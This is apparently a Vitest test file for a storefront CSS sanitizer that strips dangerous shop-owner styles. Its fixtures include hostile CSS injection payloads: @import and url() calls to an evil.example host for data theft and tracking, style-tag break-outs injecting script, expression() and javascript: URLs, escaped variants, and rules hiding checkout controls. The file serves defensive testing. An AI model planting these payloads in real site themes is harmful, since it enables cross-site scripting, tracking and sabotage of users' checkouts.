import { describe, expect, it } from 'vitest';
import { CHECKOUT_SELECTORS, HOSTILE_CUSTOM_CSS, HOSTILE_MARKERS } from '../../scripts/sandbox/themes/hostile.ts';
import { CUSTOM_CSS_MAX_LENGTH, sanitizeCustomCss } from '../../src/features/theme/domain/custom-css.ts';

const clean = (css: string) => sanitizeCustomCss(css, { layer: null }).css;
const reasons = (css: string) => sanitizeCustomCss(css).dropped.map((d) => d.reason);

describe('sanitizeCustomCss with the hostile theme', () => {
  const result = sanitizeCustomCss(HOSTILE_CUSTOM_CSS);

  it('keeps the legitimate rule, inside the custom layer', () => {
    expect(result.css).toBe(
      '@layer custom {\n' +
        '@scope (body) to (.site-header, .skip-link, .btn, .icon-btn, .cart-pill, .price, .options__price, ' +
        '.options__add, .product-tile__price, .sticky-add, .cart-summary, .cart-sticky, .co-place, .co-legal, ' +
        '.co-layout, .co-status, .site-footer__links, button, input, select) {\n' +
        '.hero-banner h1 { letter-spacing: 0.04em; }\n}\n}',
    );
  });

  it('lets no attack through', () => {
    for (const marker of HOSTILE_MARKERS) expect(result.css).not.toContain(marker);
    expect(result.css).not.toMatch(/display|visibility|url\(|<|__pwned/);
    for (const selector of CHECKOUT_SELECTORS) expect(result.css).not.toContain(selector);
  });

  it('reports each dropped item with a reason', () => {
    const byReason = result.dropped.map((d) => `${d.reason} :: ${d.item}`);
    expect(byReason).toEqual([
      "property 'transform' is not allowed :: .product-tile:hover { transform: translateY(-2px) }",
      "@import is not allowed :: @import url('http://evil.example/steal.css');",
      'url() must be same-origin relative or a data:image :: .footer { background-image: url(http://evil.example/track.png?c=1) }',
      `selector aims at the header or a commerce control :: ${CHECKOUT_SELECTORS.join(', ')} { display: none !important; }`,
      'selector aims at the header or a commerce control :: .cart-summary button { visibility: hidden; }',
      expect.stringMatching(/^unreadable CSS \(Selector is expected\) :: <\/style><script>/) as string,
      "property 'width' is not allowed :: .y { width: expression(alert(1)) }",
    ]);
  });
});

describe('sanitizeCustomCss: properties that hide, move or cover', () => {
  const hiding = [
    'display: none',
    'visibility: hidden',
    'opacity: 0',
    'position: fixed',
    'z-index: 99999',
    'top: 0',
    'inset: 0',
    'transform: scale(0)',
    'clip: rect(0 0 0 0)',
    'clip-path: inset(50%)',
    'pointer-events: none',
    'content: "x"',
    'width: 0',
    'height: 0',
    'max-height: 0',
    'overflow: hidden',
    'filter: opacity(0)',
    'mask: none',
    'text-indent: -9999px',
    'float: left',
    'animation: x 1s',
    'transition: all 1s',
    'font-size: 0',
    'font-size: 1px',
    'line-height: 0',
    'margin: -500px',
    'margin-top: -1px',
    'padding: 5000px',
    'border-width: 500px',
    'box-shadow: 0 0 0 100vmax white',
    'box-shadow: 0 0 0 9999px white',
    'outline: 2000px solid white',
    'letter-spacing: -100px',
    'font-size: 10vw',
    'padding: calc(100vh)',
    'color: var(--x)',
    'color: attr(data-x)',
    '--button-primary-bg: transparent',
    '-webkit-text-fill-color: transparent',
    'behavior: url(x.htc)',
    '-moz-binding: url(x.xml#x)',
  ];
  it.each(hiding)('drops "%s" even on checkout selectors', (declaration) => {
    const { css, dropped } = sanitizeCustomCss(`${CHECKOUT_SELECTORS.join(', ')} { ${declaration}; }`);
    expect(css).toBe('');
    expect(dropped).toHaveLength(1);
  });

  it('strips !important so page declarations outside the layer still win', () => {
    const result = sanitizeCustomCss('.tile { color: red !important; }', { layer: null });
    expect(result.css).toBe('.tile { color: red; }');
    expect(result.dropped.map((d) => d.reason)).toEqual(['!important removed (declaration kept)']);
  });
});

describe('sanitizeCustomCss: break-outs and escapes', () => {
  it.each([
    '.a { color: red; } </style><script>alert(1)</script>',
    '.a { font-family: "</style><script>alert(1)</script>"; }',
    '.a\\3c /style\\3e { color: red; }',
    '.a { color: \\72 ed; }',
    '.a { background: u\\72l(http://evil.example/x); }',
    '.a { width: \\65xpression(alert(1)); }',
    '.a { background-image: url("javascript:alert(1)"); }',
    '.a { background-image: url(//evil.example/x.png); }',
    '.a { background-image: url(https://evil.example/x.png); }',
    '.a { background-image: url(data:image/svg+xml;base64,PHN2Zz4=); }',
    '.a { background-image: url(data:text/html;base64,PHNjcmlwdD4=); }',
    '.a { background-image: image-set("http://evil.example/x.png" 1x); }',
    '.a { background: linear-gradient(red, url(http://evil.example/x)); }',
    '@import "http://evil.example/x.css";',
    '@import url(/local.css);',
    '@charset "utf-8";',
    '@namespace svg url(http://www.w3.org/2000/svg);',
    '@layer custom, base;',
    '@layer base { .checkout-button { display: none } }',
    '@supports (display: grid) { .a { color: red } }',
    '@keyframes hide { to { opacity: 0 } }',
    '@font-face { font-family: "X"; src: url(https://evil.example/x.woff2) format("woff2"); }',
    '@media screen { @media print { .a { color: red } } }',
    '@media (max-width: 767px) and (url(http://evil.example)) { .a { color: red } }',
    '.a { color: red',
    '.a { & .b { color: red } }',
    '.a:has(> .checkout-button) { display: none }',
  ])('emits nothing dangerous for %s', (css) => {
    const out = clean(css);
    expect(out).not.toMatch(
      /[<\\]|evil\.example|javascript|expression|@import|@layer|@keyframes|@supports|display|opacity|svg/i,
    );
  });

  it('recovers the rules after a dropped one', () => {
    expect(clean('.a { display: none } .b { color: red }')).toBe('.b { color: red; }');
    expect(clean('/* } .evil { display:none } */ .b { color: red }')).toBe('.b { color: red; }');
    expect(clean('.a[title="x"] { color: red } .b { color: blue }')).toBe(
      '.a[title="x"] { color: red; }\n.b { color: blue; }',
    );
    // A brace inside a string does not end the block (css-tree reads strings as a browser does).
    expect(clean('.a[title="}"] { color: red } .b { color: blue }')).toBe(
      '.a[title="}"] { color: red; }\n.b { color: blue; }',
    );
  });

  it('refuses oversized input as a whole', () => {
    const { css, dropped } = sanitizeCustomCss('.a{color:red}'.repeat(CUSTOM_CSS_MAX_LENGTH / 10));
    expect(css).toBe('');
    expect(dropped[0]?.reason).toMatch(/longer than/);
  });

  it('rejects an invalid layer name', () => {
    expect(() => sanitizeCustomCss('.a{color:red}', { layer: 'x } .b {' })).toThrow(RangeError);
  });
});

describe('sanitizeCustomCss: what owners can style', () => {
  it('keeps cosmetic declarations, normalised', () => {
    const css = [
      '.tile{color:#333;background-color:rgba(0,0,0,.05);border:1px solid #ddd;border-radius:8px}',
      '.tile:hover{box-shadow:0 2px 8px rgba(0,0,0,0.2), inset 0 0 0 1px red}',
      'h1, h2 { font-family: "Playfair Display", Georgia, serif; font-weight: 700; text-transform: uppercase; letter-spacing: -0.02em }',
      '.hero { background: #fff url(/img/hero.png) no-repeat center / cover; padding: 2rem 1rem; margin: 0 auto }',
      '.badge { background-image: linear-gradient(90deg, #f00 0%, hsl(200 50% 50%) 100%); text-decoration: underline dotted }',
      '.logo { background-image: url("data:image/png;base64,iVBORw0KGgo="); line-height: 1.2; font-size: 1.25rem }',
    ].join('\n');
    expect(clean(css)).toBe(
      [
        '.tile { color: #333; background-color: rgba(0, 0, 0, .05); border: 1px solid #ddd; border-radius: 8px; }',
        '.tile:hover { box-shadow: 0 2px 8px rgba(0, 0, 0, 0.2), inset 0 0 0 1px red; }',
        'h1, h2 { font-family: "Playfair Display", Georgia, serif; font-weight: 700; text-transform: uppercase; letter-spacing: -0.02em; }',
        '.hero { background: #fff url("/img/hero.png") no-repeat center / cover; padding: 2rem 1rem; margin: 0 auto; }',
        '.badge { background-image: linear-gradient(90deg, #f00 0%, hsl(200 50% 50%) 100%); text-decoration: underline dotted; }',
        '.logo { background-image: url("data:image/png;base64,iVBORw0KGgo="); line-height: 1.2; font-size: 1.25rem; }',
      ].join('\n'),
    );
  });

  it('keeps simple media queries and same-origin font faces', () => {
    expect(clean('@media (max-width: 767px) { .a { color: red } .b { display: none } }')).toBe(
      '@media (max-width: 767px) {\n  .a { color: red; }\n}',
    );
    expect(
      clean(
        '@font-face { font-family: Brand; src: url(/fonts/brand.woff2) format("woff2"), local("Brand"); font-display: swap }',
      ),
    ).toBe(
      '@font-face { font-family: Brand; src: url("/fonts/brand.woff2") format("woff2"), local("Brand"); font-display: swap; }',
    );
  });

  it('explains drops in the log', () => {
    expect(reasons('.a { margin: -4px; --x: 1; color: blue } @media print { }')).toEqual([
      '-4px out of range',
      'custom properties are not allowed',
    ]);
  });
});
